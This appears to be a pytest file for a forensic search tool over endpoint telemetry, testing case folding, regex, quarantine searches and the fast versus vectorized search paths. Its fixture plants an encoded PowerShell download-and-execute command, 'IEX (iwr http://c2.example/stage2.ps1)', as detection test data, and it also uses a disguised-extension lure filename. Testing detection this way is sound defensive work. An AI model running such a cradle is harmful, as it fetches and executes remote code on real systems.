"""Search: planted needles, case folding, no matches across adjacent values, the
receipt, the fast (memory-mapped) path agreeing with the vectorized one, quarantine."""
from __future__ import annotations

import base64
import json

import pytest

from edrql.ingest import Options, ingest
from edrql.query import execute_text, make_context
from edrql.render import py_rows
from edrql.segcodec import is_text_type
from edrql.store import Case

from mde_fixture import row, write


@pytest.fixture()
def case(tmp_path):
    enc = base64.b64encode("IEX (iwr http://c2.example/stage2.ps1)".encode("utf-16-le")).decode()
    rows = [
        row(0, ProcessCommandLine=r"C:\Temp\évil.exe --run"),
        row(1, ProcessCommandLine=r"C:\TEMP\ÉVIL.EXE --RUN"),
        row(2, ProcessCommandLine="報告書_最終.exe /s"),
        row(3, ProcessCommandLine="alpha", FolderPath="beta"),        # "alphabeta" only if joined
        row(4, ProcessCommandLine=f"powershell.exe -nop -enc {enc}"),
        row(5, ProcessCommandLine="plain", InitiatingProcessCommandLine="xNeedleX inside"),
    ]
    f = tmp_path / "a.csv"
    write(f, rows)
    bad = tmp_path / "a2.csv"
    write(bad, [row(10)])
    with open(bad, "ab") as fh:
        fh.write("broken,row,with quarantined-needle-Q\r\n".encode())
    root = str(tmp_path / "case")
    ingest([str(f), str(bad)], Case.create_or_open(root), Options())
    return Case.open(root)


def q(case, text):
    return execute_text(make_context(case), text)[-1]


def pids(r):
    return sorted(x["pid"] for x in py_rows(r.table) if x.get("pid") is not None)


def test_ascii_and_accented_case_folding(case):
    assert pids(q(case, 'search "évil.exe"')) == [1000, 1004]
    assert pids(q(case, 'search "ÉVIL.exe"')) == [1000, 1004]
    assert pids(q(case, 'search cs "ÉVIL.EXE"')) == [1004]
    assert pids(q(case, 'search cs "évil.exe"')) == [1000]


def test_japanese(case):
    assert pids(q(case, 'search "最終"')) == [1008]


def test_no_match_made_by_joining_adjacent_values(case):
    assert q(case, 'search "alphabeta"').table.num_rows == 0
    assert q(case, 'search cs "alphabeta"').table.num_rows == 0
    assert pids(q(case, 'search "alpha"')) == [1012]


def test_terms_regex_and_columns(case):
    assert pids(q(case, 'search "évil" and "run"')) == [1000, 1004]
    assert pids(q(case, 'search "évil" and not "TEMP"')) == []
    assert pids(q(case, 'search "alpha" or "最終"')) == [1008, 1012]
    assert pids(q(case, r'search regex("[ée]vil\\.exe\\s+--run")')) == [1000, 1004]
    assert pids(q(case, 'search "xneedlex" in (cmdline)')) == []
    r = q(case, 'search "xneedlex"')
    assert pids(r) == [1020] and "raw.InitiatingProcessCommandLine" in py_rows(r.table)[0]["matched"]


def test_decoded_powershell_is_searchable_and_shown(case):
    r = q(case, 'search "stage2.ps1"')
    rows = py_rows(r.table)
    assert [x["pid"] for x in rows] == [1016]
    assert "cmdline_decoded" in rows[0]["matched"]
    assert rows[0]["cmdline_decoded"] == "IEX (iwr http://c2.example/stage2.ps1)"


def test_quarantine_is_searched(case):
    r = q(case, 'search "quarantined-needle-q"')
    rows = py_rows(r.table)
    assert len(rows) == 1 and rows[0]["matched"] == "quarantine.raw"
    assert r.extra["receipt"].quarantine_hits == 1 and r.extra["receipt"].quarantine_scanned == 1


def test_receipt_states_what_was_read(case):
    rc = q(case, 'search "nothing-like-this"').extra["receipt"]
    assert rc.hits == 0 and rc.rows_scanned == case.events.num_rows
    assert rc.columns_scanned == len([c for c in case.events.column_names
                                      if is_text_type(case.events.schema.field(c).type)])
    assert rc.bytes_scanned > 0 and rc.hosts == 1 and rc.first and rc.last
    assert "0 hit(s) in 7 rows" in rc.text()
    json.dumps(rc.to_dict())


def test_fast_path_and_vectorized_agree(case):
    for term in ['"évil"', 'cs "ÉVIL"', '"alpha"', '"exe"', '"pc-01"', '"2023-08-10"']:
        fast = q(case, f"search {term}")
        slow = q(case, f"events | where isnotnull(ts) | search {term}")  # a copy: vectorized
        assert fast.extra["receipt"].engine.startswith("search index")
        assert slow.extra["receipt"].engine == "vectorized"
        assert pids(fast) == pids(slow), term
        assert [x["matched"] for x in py_rows(fast.table)] == [x["matched"] for x in py_rows(slow.table)]


def test_example_hidden_name_needs_substring(example_case):
    r = q(example_case, 'search "invoice_Q3_final.pdf.scr"')
    assert r.table.num_rows == 2
    # a keyword index splitting on non-alphanumerics never has this token:
    import re
    for x in py_rows(r.table):
        tokens = set(re.split(r"[^A-Za-z0-9_]+", x["cmdline"] or ""))
        assert "invoice_Q3_final" not in tokens


def test_index_character_class_cuts_are_exact(tmp_path):
    """Hex-only values and values without capitals sit in their own index regions; needles
    of every kind must still find exactly what a plain scan finds."""
    vals = ["ABCDEF0123", "deadbeef99", "lower only value", "Mixed Case Value", "0x1A2b",
            "C:\\Windows\\System32\\cmd.exe", "9f86d081884c7d659a2feaa0c55ad015", "QQ"]
    write(tmp_path / "h.csv", [row(i, ProcessCommandLine=v) for i, v in enumerate(vals)])
    root = str(tmp_path / "case")
    ingest([str(tmp_path / "h.csv")], Case.create_or_open(root), Options())
    case = Case.open(root)
    for term in ['"abcdef"', 'cs "ABCDEF"', 'cs "abcdef"', '"DEADBEEF"', 'cs "Case V"', 'cs "case v"',
                 '"case v"', 'cs "QQ"', '"qq"', 'cs "System32"', '"1a2B"', 'cs "0x1A"', '"d081884c7d"']:
        fast = q(case, f"search {term}")
        slow = q(case, f"events | where isnotnull(ts) | search {term}")
        assert fast.extra["receipt"].engine.startswith("search index")
        assert pids(fast) == pids(slow), term
        expect_none = term in ('cs "abcdef"', 'cs "case v"')
        assert bool(pids(fast)) != expect_none, term
